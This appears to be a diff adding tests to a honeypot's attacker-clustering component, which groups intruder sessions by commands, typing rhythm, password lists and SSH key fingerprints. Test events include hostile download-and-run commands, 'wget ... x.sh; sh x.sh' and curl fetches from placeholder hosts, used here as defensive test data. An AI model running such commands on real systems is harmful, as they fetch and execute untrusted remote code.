@@ -4,7 +4,19 @@
 from __future__ import annotations
 
 from sqlalchemy import Engine
-from tests.decnet_workers.clusterer.scenes import Follower, command, event, groups, hassh, key, several
+from tests.decnet_workers.clusterer.scenes import (
+    Follower,
+    command,
+    event,
+    groups,
+    hassh,
+    key,
+    password,
+    several,
+    typing,
+)
+
+from decnet_core.events.typing_digest import TypingDigest
 
 A, B, C, D = (f"192.0.2.{number}" for number in range(1, 5))
 
@@ -23,3 +35,42 @@ def test_commands_name_urls(engine: Engine) -> None:
     line = "cd /tmp; wget http://198.51.100.7/x.sh; sh x.sh"
     Follower(engine).run([event(A, command(line)), event(B, command(line), 1), event(C, command("uname -a"), 2)])
     assert several(engine) == groups([A, B])
+
+
+def test_a_rhythm_that_is_played_back_joins_but_one_that_many_have_does_not(engine: Engine) -> None:
+    played = TypingDigest(60, 0, 6, 2, (0, 0, 3, 20, 25, 6, 1), (0, 0, 0, 0, 0, 0, 1, 2, 2))
+    sent_at_once = TypingDigest(0, 40, 40, 0, (38,), (39,))
+    logged = [event(A, typing(played)), event(B, typing(played), 90)]
+    Follower(engine).run([*logged, event(C, typing(sent_at_once)), event(D, typing(sent_at_once), 5)])
+    assert several(engine) == groups([A, B])
+
+
+def test_passwords_of_ones_own_list_add_up_though_no_two_addresses_try_the_same_ones(engine: Engine) -> None:
+    own = [password("root", f"own-{number}-of-mine") for number in range(12)]
+    crowd = [event(f"10.0.{number // 200}.{number % 200}", hassh(f"{number:032x}")) for number in range(300)]
+    known = [event(each, key("one")) for each in (A, B, C)]
+    tried = [event(each, own[(4 * place + number) % 12]) for place, each in enumerate((A, B, C)) for number in range(6)]
+    follower = Follower(engine).run([*crowd, *known, *tried])
+    follower.run([event(D, own[number], 60) for number in range(0, 12, 2)])
+    assert several(engine) == groups([A, B, C, D])
+
+
+def test_buyers_of_one_loader_are_not_one(engine: Engine) -> None:
+    buyers = {name: [f"198.51.{number}.{last}" for last in range(1, 5)] for number, name in enumerate("abcd")}
+    fetch = command("curl -s http://203.0.113.9/get")
+    Follower(engine).run(
+        [
+            event(each, shown, number)
+            for number, (name, addresses) in enumerate(buyers.items())
+            for each in addresses
+            for shown in (fetch, command(f"curl -s http://{name}.example.net/{name}"))
+        ]
+    )
+    assert several(engine) == groups(*buyers.values())
+
+
+def test_who_shows_the_marks_of_many_belongs_to_none_of_them(engine: Engine) -> None:
+    owners = {name: [f"198.51.{number}.{last}" for last in range(1, 4)] for number, name in enumerate("abcd")}
+    shown = [event(each, key(name)) for name, addresses in owners.items() for each in addresses]
+    Follower(engine).run([*shown, *(event(A, key(name), 9) for name in owners)])
+    assert several(engine) == groups(*owners.values())
